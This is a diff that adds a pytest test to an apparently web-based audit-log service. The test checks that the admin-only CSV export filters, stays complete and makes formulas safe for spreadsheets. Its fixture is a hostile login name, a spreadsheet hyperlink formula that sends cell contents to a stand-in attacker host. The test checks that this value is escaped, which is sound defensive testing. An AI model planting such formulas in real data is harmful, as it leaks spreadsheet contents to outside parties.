@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import json
+
 import pytest
 from sqlalchemy import select, text
 from sqlalchemy.exc import DBAPIError
@@ -117,3 +121,28 @@ async def test_a_viewers_refused_attempts_leave_a_bounded_number_of_rows(
     assert "viewer role may not" in rows[0].details["reason"]
     assert all(r.ip is not None for r in rows)
     assert report.intact
+
+
+async def test_the_audit_log_exports_as_csv_filtered_complete_and_safe_in_a_spreadsheet(gateway: Gateway) -> None:
+    hostile = '=hyperlink("http://evil.example/?"&a1, "x")'
+    async with gateway.client() as other:
+        for i in range(3):
+            await login(other, "admin", f"wrong-password-{i}")
+        await login(other, hostile, "whatever-password")
+    async with logged_in_as(gateway, Role.VIEWER) as viewer:
+        assert (await viewer.get("/audit/export.csv")).status_code == 403
+    async with logged_in_admin(gateway) as admin:
+        exported = await admin.get("/audit/export.csv", params={"action": "login", "outcome": "failure"})
+        everything = await admin.get("/audit/export.csv")
+        listed = (await admin.get("/audit", params={"limit": 500})).json()["entries"]
+
+    assert exported.status_code == 200
+    assert exported.headers["content-type"].startswith("text/csv")
+    assert "attachment" in exported.headers["content-disposition"]
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    assert list(rows[0]) == ["id", "at", "actor", "action", "target", "outcome", "ip", "user_agent", "details", "hash"]
+    assert [(r["action"], r["outcome"]) for r in rows] == [("login", "failure")] * 4
+    assert rows[0]["target"] == "'" + hostile.strip().lower()  # a formula made text, its quotes and comma kept
+    assert sorted(r["target"] for r in rows[1:]) == ["admin"] * 3
+    assert json.loads(rows[1]["details"]) == {"reason": "wrong credentials"}
+    assert [int(r["id"]) for r in csv.DictReader(io.StringIO(everything.text))] == [e["id"] for e in listed]
